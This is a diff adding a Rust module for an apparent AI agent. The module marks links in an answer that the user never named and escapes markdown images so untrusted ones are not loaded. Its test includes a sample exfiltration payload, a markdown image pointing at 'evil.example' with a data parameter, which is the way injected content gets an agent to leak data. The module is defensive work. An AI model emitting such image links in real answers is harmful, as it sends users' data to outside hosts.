@@ -1,0 +1,85 @@
+//! Links in an answer: which the user never named, and what is written beside those.
+
+use api::sessions::{Follow, Sessions};
+use domain::event::{CallStatus, Event, EventBody};
+use domain::id::SessionId;
+use domain::label::Integrity;
+use futures::StreamExt;
+use text::escape::visible;
+use text::links::Known;
+
+/// What is known at the end of a session's log so far. A log that cannot be read leaves the user's
+/// words unknown, and every place strange.
+pub async fn past(sessions: &dyn Sessions, session_id: SessionId) -> Known {
+    let mut known = Known::default();
+    let unknown = |error| {
+        tracing::warn!(%error, "the session's past could not be read");
+        let mut known = Known::default();
+        known.meet_outsiders();
+        known
+    };
+    let mut events = match sessions.attach(session_id, 1, Follow::ToEnd).await {
+        Ok(events) => events,
+        Err(error) => return unknown(error),
+    };
+    while let Some(event) = events.next().await {
+        match event {
+            Ok(event) => note(&mut known, &event),
+            Err(error) => return unknown(error),
+        }
+    }
+    known
+}
+
+/// Takes an event into account: the user's words, and what others had a say in.
+pub fn note(known: &mut Known, event: &Event) {
+    match &event.body {
+        EventBody::QueryReceived { text, .. } => known.hear(text),
+        EventBody::ToolResult { status, label, .. } => {
+            let is_trusted = match label {
+                Some(label) => label.integrity == Integrity::Trusted,
+                None => matches!(status, CallStatus::Denied | CallStatus::Cancelled),
+            };
+            if !is_trusted {
+                known.meet_outsiders();
+            }
+        }
+        EventBody::AgentFinished { .. } => known.meet_outsiders(),
+        _ => {}
+    }
+}
+
+/// What is written beside a link.
+#[must_use]
+pub fn mark(places: &str) -> String {
+    format!(" ‹leads to {places}; not named by you›")
+}
+
+/// An answer for a document that other programs will draw: strange links say where they lead, and
+/// where there is one, no picture is loaded.
+#[must_use]
+pub fn document(answer: &str, known: &Known) -> String {
+    let shown = text::links::marked(answer, known, visible, mark);
+    if known.strange(answer).is_empty() {
+        return shown;
+    }
+    // The mark is escaped, so that what was a picture reads as text.
+    shown.replace("![", "!\\[").replace('<', "\\<")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_strange_picture_is_not_loaded_and_the_users_own_is() {
+        let mut known = Known::default();
+        known.hear("describe https://mine.example/a.png");
+        known.meet_outsiders();
+        let strange = document("![a](https://evil.example/?d=1) <img src=x>", &known);
+        assert!(strange.starts_with("!\\[a]"), "{strange}");
+        assert!(strange.contains("leads to evil.example") && strange.contains("\\<img"));
+        let own = "![a](https://mine.example/a.png)";
+        assert_eq!(document(own, &known), own);
+    }
+}
